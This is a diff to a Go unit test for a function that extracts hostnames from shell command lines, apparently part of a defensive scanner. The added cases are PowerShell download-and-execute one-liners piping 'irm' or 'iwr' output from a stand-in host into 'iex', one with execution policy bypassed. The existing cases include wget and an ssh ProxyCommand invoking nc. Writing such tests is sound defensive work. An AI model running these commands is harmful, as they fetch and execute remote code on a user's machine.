@@ -54,6 +54,9 @@ func TestHosts(t *testing.T) {
 		{"busybox wget evil.example", []string{"evil.example"}},
 		{"ssh -o ProxyCommand='nc evil.example 22' box.example", []string{"box.example", "evil.example"}},
 		{"curl", nil},
+		{`powershell -c "irm get.evil.example | iex"`, []string{"get.evil.example"}},
+		{`pwsh.exe -NoProfile -ExecutionPolicy Bypass -Command "iwr get.evil.example -UseBasicParsing | iex"`, []string{"get.evil.example"}},
+		{`powershell -File setup.ps1 get.evil.example`, nil},
 	} {
 		got := Hosts(c.line)
 		if !slices.Equal(got, c.want) && len(got)+len(c.want) > 0 {
